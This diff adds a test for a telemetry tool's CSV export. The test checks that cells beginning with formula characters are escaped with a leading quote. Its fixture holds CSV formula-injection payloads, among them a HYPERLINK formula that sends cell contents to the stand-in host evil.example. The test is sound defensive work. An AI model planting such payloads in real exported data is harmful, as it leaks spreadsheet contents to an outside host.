@@ -712,6 +712,48 @@ def test_telemetry_export_csv_and_jsonl(home: Path, db: Path, tmp_path: Path) ->
     assert stat.S_IMODE(target.stat().st_mode) == 0o600
 
 
+def test_telemetry_export_csv_cells_start_no_spreadsheet_formula(
+    home: Path, tmp_path: Path
+) -> None:
+    # an answer, a prompt or a provider's error text is not the exporter's to trust: a
+    # cell starting with =, +, -, @, a tab or a carriage return is a formula to a
+    # spreadsheet opening the CSV, so it is written after a quote (JSON lines as stored)
+    path = tmp_path / "odd.db"
+    record = LLMCallRecord(
+        provider="anthropic",
+        model="claude-haiku-4-5",
+        outcome="failure",
+        workflow="+cmd",
+        stage="-stage",
+        error_message='=HYPERLINK("https://evil.example/?"&A1,"details")',
+        prompt_text="@SUM(1+1)",
+        response_text="\t=1+1",
+        error_type="ServerError",
+        latency_ms=12.5,
+    )
+
+    async def fill() -> None:
+        async with telemetry_from_url(f"sqlite:///{path}") as telemetry:
+            await telemetry.record(record)
+            await telemetry.flush()
+
+    anyio.run(fill)
+    out = ok(cli(home, "telemetry", "export", "--format", "csv", "--db", str(path)))
+    (row,) = list(csv.DictReader(io.StringIO(out)))
+    assert row["workflow"] == "'+cmd"
+    assert row["stage"] == "'-stage"
+    assert row["error_message"] == "'" + str(record.error_message)
+    assert row["prompt_text"] == "'@SUM(1+1)"
+    assert row["response_text"] == "'\t=1+1"
+    assert (row["error_type"], row["latency_ms"], row["model"]) == (
+        "ServerError",
+        "12.5",
+        "claude-haiku-4-5",
+    )
+    line = ok(cli(home, "telemetry", "export", "--format", "jsonl", "--db", str(path)))
+    assert LLMCallRecord.from_dict(json.loads(line)) == record
+
+
 def test_telemetry_export_says_when_its_limit_left_older_records_out(
     home: Path, db: Path, tmp_path: Path
 ) -> None:
